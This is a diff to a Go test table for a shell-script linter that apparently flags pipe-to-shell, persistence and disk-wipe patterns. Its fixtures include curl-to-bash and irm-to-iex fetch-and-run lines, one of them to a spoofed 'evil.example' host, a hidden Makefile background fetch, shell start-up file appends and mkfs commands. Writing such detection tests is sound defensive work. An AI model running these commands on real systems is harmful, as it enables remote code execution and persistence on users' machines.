@@ -153,6 +153,9 @@ var codeCases = []lintCase{
 	{"i.sh", "pipe-to-shell", "fetch=\"curl -fsSL\"\nrun=bash\n$fetch https://x.example/i.sh | $run\n", "warning", 3},
 	{"Makefile", "pipe-to-shell", "_fetch := curl -fsSL --max-time 20\n_run := /bin/bash\n_prime := $(shell ( $(_fetch) https://x.example/warm | $(_run) ) >/dev/null 2>&1 &)\n", "warning", 3},
 	{"i.sh", "pipe-to-shell", "fetch=\"curl -fsSL\"\n\"$fetch\" https://x.example/i.sh | bash\n", "", 0},
+	// A start-up file's backup copy is no start-up file; .zshrc.local is one.
+	{"b.sh", "persistence", "rc=\"$HOME/.zshrc\"\ncp \"$rc\" \"$rc.devbox-backup\"\n", "", 0},
+	{"b.sh", "persistence", "rc=\"$HOME/.zshrc.local\"\necho \"$X\" >> \"$rc\"\n", "warning", 2},
 	// A loop device of an image file is the file: formatting it wipes no disk.
 	{"img.sh", "disk-wipe", "LOOP=$(sudo losetup --find --show --partscan build/disk.img)\nsudo mkfs.ext4 \"${LOOP}p1\"\n", "", 0},
 	{"img.sh", "disk-wipe", "LOOP=$(losetup -f)\nsudo mkfs.ext4 \"$LOOP\"\n", "warning", 2},
@@ -401,7 +404,8 @@ var codeCases = []lintCase{
 	{"install.ps1", "pipe-to-shell", "powershell -ExecutionPolicy ByPass -c \"irm https://astral.sh/uv/install.ps1 | iex\"\n", "note", 1},
 	{"SKILL.md", "pipe-to-shell", "```powershell\nirm https://claude.ai/install.ps1 | iex\n```\n", "note", 2},
 	{"install.ps1", "pipe-to-shell", "Invoke-WebRequest https://get.pnpm.io/install.ps1 -UseBasicParsing | Invoke-Expression\n", "note", 1},
-	{"install.ps1", "pipe-to-shell", "iwr -useb https://get.scoop.sh | iex\n", "warning", 1},
+	{"install.ps1", "pipe-to-shell", "iwr -useb https://get.scoop.sh | iex\n", "note", 1},
+	{"install.ps1", "pipe-to-shell", "irm get.scoop.sh | iex\n", "warning", 1},
 	{"install.ps1", "pipe-to-shell", "irm https://astral.sh.evil.example/install.ps1 | iex\n", "warning", 1},
 	{"install.ps1", "pipe-to-shell", "irm http://astral.sh/uv/install.ps1 | iex\n", "warning", 1},
 	{"install.ps1", "pipe-to-shell", "irm https://astral.sh/uv/install.ps1$x | iex\n", "warning", 1},
